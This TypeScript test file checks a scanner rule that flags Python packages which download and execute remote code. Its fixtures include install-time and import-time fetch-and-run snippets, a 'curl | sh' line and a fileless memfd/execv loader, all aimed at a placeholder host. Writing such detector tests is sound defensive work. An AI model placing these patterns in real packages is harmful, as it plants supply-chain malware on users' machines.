import { downloadAndRun } from '../../../src/rules/download-and-run.js';
import { sdist } from '../../support/sdist.js';
import { wheel } from '../../support/wheel.js';
import { releaseTest } from '../pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const URL = 'https://files.example.invalid/a.pyz';
const FETCH = `import subprocess, sys, urllib.request\nurllib.request.urlretrieve("${URL}", "/tmp/a.pyz")\n`;
const RUN = 'subprocess.Popen([sys.executable, "/tmp/a.pyz"])\n';
const indented = (source: string) => source.replaceAll(/^(?=.)/gmu, '    ');

releaseTest(downloadAndRun, {
  flags: [
    {
      name: 'on import',
      given: { base: wheel(), head: init(FETCH + RUN) },
      level: 'block',
      says: 'when it is imported',
    },
    {
      name: 'written by hand',
      given: {
        base: wheel(),
        head: init(
          `import requests, subprocess\ndata = requests.get("${URL}").content\nwith open("/tmp/tool", "wb") as f:\n    f.write(data)\nsubprocess.run(["/tmp/tool"])\n`,
        ),
      },
      level: 'block',
    },
    {
      name: 'one shell line',
      given: { base: wheel(), head: init(`import os\nos.system("curl -sk ${URL} | sh")\n`) },
      level: 'block',
    },
    { name: 'in setup.py', given: { base: sdist(), head: sdist({ 'setup.py': FETCH + RUN }) }, level: 'block' },
    {
      name: 'out of memory, when called',
      given: {
        base: wheel(),
        head: init(
          `import os, urllib.request\ndef go():\n    fd = os.memfd_create("x")\n    os.write(fd, urllib.request.urlopen("${URL}").read())\n    os.execv("/proc/self/fd/%d" % fd, ["x"])\n`,
        ),
      },
      level: 'block',
    },
    {
      name: 'when called, openly',
      given: { base: wheel(), head: init(`def get():\n${indented(FETCH + RUN)}`) },
      level: 'warn',
    },
    {
      name: 'when called, detached',
      given: {
        base: wheel(),
        head: init(`def get():\n${indented(FETCH + RUN.replace(')', ', start_new_session=True)'))}`),
      },
      level: 'block',
    },
  ],
  allows: [
    {
      name: 'a descriptor that is handed to a program of its own',
      given: {
        base: wheel(),
        head: init('import os, subprocess\nfd = os.memfd_create("x")\nsubprocess.run(["/proc/self/fd/%d" % fd])\n'),
      },
    },
    { name: 'a download alone', given: { base: wheel(), head: init(FETCH) } },
    {
      name: 'a program of its own',
      given: { base: wheel(), head: init('import subprocess\nsubprocess.run(["git", "status"])\n') },
    },
    {
      name: 'both in one file, unrelated',
      given: { base: wheel(), head: init(`${FETCH}subprocess.run(["git", "status"])\n`) },
    },
    { name: 'what the base did too', given: { base: init(FETCH + RUN), head: init(`${FETCH}x = 1\n${RUN}`) } },
  ],
});
